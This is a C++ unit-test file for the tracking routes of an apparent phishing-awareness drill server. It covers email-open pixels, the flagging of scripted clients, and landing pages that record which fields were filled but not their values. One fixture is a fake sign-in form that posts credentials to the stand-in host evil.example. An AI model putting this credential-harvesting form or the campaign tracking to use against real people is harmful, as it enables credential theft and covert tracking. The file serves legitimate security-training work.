// The phish server's tracking endpoints end to end in one process: the router,
// the rid lookup, the classifier, the writer and the answers, over a real
// migrated store with an active campaign.
#include "phish/tracking_routes.h"

#include <gtest/gtest.h>

#include <future>
#include <string>

#include "core/ascii.h"
#include "core/utf8.h"
#include "support/fakes.h"
#include "support/store_fixture.h"
#include "support/test_campaign.h"

namespace phishdrill::phish {
namespace {

using testing_support::FakeClock;
using testing_support::FakeTokens;

constexpr std::int64_t kLaunch = 1'700'000'000;
constexpr const char* kChrome =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36";

std::string header_of(const net::Response& response, std::string_view name) {
  for (const auto& [key, value] : response.headers) {
    if (ascii_iequals(key, name)) return value;
  }
  return {};
}

class TrackingRoutesTest : public testing_support::StoreFixture {
 protected:
  void SetUp() override {
    StoreFixture::SetUp();
    write([&](Repositories& repos) {
      auto made = testing_support::make_test_workspace(
          repos, {"ana@example.com", "ben@example.com"}, kLaunch);
      workspace_id_ = made.audience.workspace_id;
      campaign_id_ = testing_support::launch_test_campaign(repos, made.audience, made.tmpl,
                                                           "Payroll", std::nullopt, kLaunch);
    });
    clock_.set(kLaunch + 3600);
    writer_ = std::make_unique<EventWriter>(*store_);
    context_ = std::make_unique<PhishContext>(*store_, clock_, tokens_, *writer_, PhishSettings{});
    add_phish_routes(router_, *context_, "https://phish.example.com");
  }

  void TearDown() override {
    writer_->stop();
    StoreFixture::TearDown();
  }

  // Routes like the server does and waits for the (asynchronous) answer.
  net::Response hit(const std::string& method, const std::string& path, const std::string& rid,
                    std::string body = {}, const std::string& user_agent = kChrome) {
    const auto match = router_.match(method, path);
    EXPECT_NE(match.route, nullptr) << method << " " << path;
    if (match.route == nullptr) return net::Response::text(404, "");
    net::Request request;
    request.method = method;
    request.path = path;
    request.query = {{"rid", rid}};
    request.headers = {{"User-Agent", user_agent},
                       {"Accept", "text/html,application/xhtml+xml,*/*;q=0.8"},
                       {"Accept-Language", "en-US,en;q=0.9"},
                       {"Sec-Fetch-Mode", "navigate"},
                       {"Sec-Fetch-Site", "none"},
                       {"Sec-CH-UA", "\"Chromium\";v=\"124\", \"Google Chrome\";v=\"124\""},
                       {"Sec-CH-UA-Mobile", "?0"},
                       {"Sec-CH-UA-Platform", "\"Windows\""}};
    if (!body.empty()) {
      request.headers.emplace_back("Content-Type", "application/x-www-form-urlencoded");
    }
    request.body = std::move(body);
    request.remote_ip = "203.0.113.9";
    std::promise<net::Response> answered;
    match.route->async_handler(request,
                               [&](net::Response response) { answered.set_value(response); });
    return answered.get_future().get();
  }

  std::vector<EventRecord> events() {
    std::vector<EventRecord> out;
    read([&](Repositories& repos) {
      out = repos.events.list_events(campaign_id_, 0, PageRequest{0, 500}).items;
    });
    return out;
  }

  std::int64_t add_page(const std::string& html, CapturePolicy capture) {
    LandingPage page;
    page.name = "Sign in";
    page.html = html;
    page.capture = capture;
    std::int64_t page_id = 0;
    write([&](Repositories& repos) {
      page_id = repos.pages.create_page(workspace_id_, page).value().id;
      auto campaign = repos.campaigns.find_campaign(workspace_id_, campaign_id_).value();
      campaign.page_id = page_id;
      ASSERT_TRUE(repos.campaigns.update_campaign(workspace_id_, campaign).has_value());
    });
    return page_id;
  }

  FakeClock clock_;
  FakeTokens tokens_;
  std::unique_ptr<EventWriter> writer_;
  std::unique_ptr<PhishContext> context_;
  net::Router router_;
  std::int64_t workspace_id_ = 0;
  std::int64_t campaign_id_ = 0;
};

TEST_F(TrackingRoutesTest, UnknownAndMalformedRidsGetTheSamePlain404AndRecordNothing) {
  for (const std::string rid : {"nobody-knows-me", "bad rid!", ""}) {
    const auto response = hit("GET", "/", rid);
    EXPECT_EQ(response.status, 404) << rid;
    EXPECT_EQ(response.body, "404 page not found\n");
  }
  EXPECT_TRUE(events().empty());
}

TEST_F(TrackingRoutesTest, AnOpenAnswersThePixelOnlyOnceTheEventIsDurable) {
  const auto response = hit("GET", "/track", testing_support::test_rid(campaign_id_, 0));
  EXPECT_EQ(response.status, 200);
  EXPECT_EQ(header_of(response, "Content-Type"), "image/gif");
  EXPECT_EQ(response.body.substr(0, 6), "GIF89a");
  const auto recorded = events();
  ASSERT_EQ(recorded.size(), 1u);
  EXPECT_EQ(recorded[0].kind, "opened");
  EXPECT_FALSE(recorded[0].automated) << recorded[0].reason;
  EXPECT_EQ(recorded[0].at, kLaunch + 3600);
}

// A header may carry any bytes; the stored user agent (shown as JSON by the
// API) is UTF-8 and at most 512 bytes before repair, never cut inside a character.
TEST_F(TrackingRoutesTest, AnyBytesInTheUserAgentAreStoredAsUtf8) {
  const std::string agent =
      std::string(kChrome) + " \xFF\xFE" + std::string(400, 'x') + "\xC3\xA9\xE5\x8C\x8B";
  ASSERT_GT(agent.size(), 512u);
  const auto response = hit("GET", "/track", testing_support::test_rid(campaign_id_, 0), {}, agent);
  EXPECT_EQ(response.status, 200);
  const auto recorded = events();
  ASSERT_EQ(recorded.size(), 1u);
  EXPECT_TRUE(is_valid_utf8(recorded[0].user_agent)) << recorded[0].user_agent;
  EXPECT_EQ(recorded[0].user_agent.rfind(kChrome, 0), 0u);
  EXPECT_NE(recorded[0].user_agent.find("\xEF\xBF\xBD"), std::string::npos);
}

TEST_F(TrackingRoutesTest, AClickWithoutALandingPageTeachesAndAScriptClientIsAutomated) {
  const auto person = hit("GET", "/", testing_support::test_rid(campaign_id_, 0));
  EXPECT_EQ(person.status, 200);
  EXPECT_NE(person.body.find("<html"), std::string::npos);
  EXPECT_NE(header_of(person, "Content-Security-Policy").find("default-src 'none'"),
            std::string::npos);

  const auto script =
      hit("GET", "/", testing_support::test_rid(campaign_id_, 1), {}, "python-requests/2.31.0");
  EXPECT_EQ(script.status, 200);
  const auto recorded = events();
  ASSERT_EQ(recorded.size(), 2u);
  EXPECT_FALSE(recorded[0].automated) << recorded[0].reason;
  EXPECT_TRUE(recorded[1].automated);
  EXPECT_FALSE(recorded[1].reason.empty());
}

TEST_F(TrackingRoutesTest, AClickGetsTheLandingPageWithItsFormsPointedBackAndANoncedPolicy) {
  add_page(
      "<html><head></head><body><form action=https://evil.example/><input name=user>"
      "<input type=password name=pw></form></body></html>",
      CapturePolicy::kFields);
  const std::string rid = testing_support::test_rid(campaign_id_, 0);
  const auto response = hit("GET", "/", rid);
  EXPECT_EQ(response.status, 200);
  EXPECT_NE(response.body.find("action=\"https://phish.example.com/?rid=" + rid + "\""),
            std::string::npos)
      << response.body;
  EXPECT_EQ(response.body.find("evil.example"), std::string::npos);
  const std::string policy = header_of(response, "Content-Security-Policy");
  const std::string nonce = response.body.substr(response.body.find("nonce=\"") + 7, 24);
  EXPECT_EQ(nonce, std::string("t1").append(22, '_'));  // from the token source
  EXPECT_NE(policy.find("'nonce-" + nonce + "'"), std::string::npos) << policy;
  EXPECT_NE(policy.find("form-action 'self'"), std::string::npos) << policy;
}

TEST_F(TrackingRoutesTest, ASubmissionRecordsWhichFieldsWereFilledButNeverTheirValues) {
  add_page("<form><input name=user><input type=password name=pw></form>", CapturePolicy::kFields);
  const std::string rid = testing_support::test_rid(campaign_id_, 0);
  const auto response = hit("POST", "/", rid, "user=ana&pw=hunter2");
  EXPECT_EQ(response.status, 200);
  const auto recorded = events();
  ASSERT_EQ(recorded.size(), 1u);
  EXPECT_EQ(recorded[0].kind, "submitted");
  EXPECT_EQ(recorded[0].details_json.find("hunter2"), std::string::npos);
  EXPECT_EQ(recorded[0].details_json.find("ana"), std::string::npos);
  EXPECT_NE(recorded[0].details_json.find("\"user\""), std::string::npos)
      << recorded[0].details_json;
}

TEST_F(TrackingRoutesTest, AFinishedCampaignAnswers404AndRecordsNothing) {
  write([&](Repositories& repos) {
    auto campaign = repos.campaigns.find_campaign(workspace_id_, campaign_id_).value();
    campaign.status = CampaignStatus::kCompleted;
    ASSERT_TRUE(repos.campaigns.set_campaign_state(campaign, CampaignStatus::kActive));
  });
  clock_.advance(10);  // past the rid cache's few seconds is not needed: nothing cached yet
  EXPECT_EQ(hit("GET", "/", testing_support::test_rid(campaign_id_, 0)).status, 404);
  EXPECT_TRUE(events().empty());
}

}  // namespace
}  // namespace phishdrill::phish
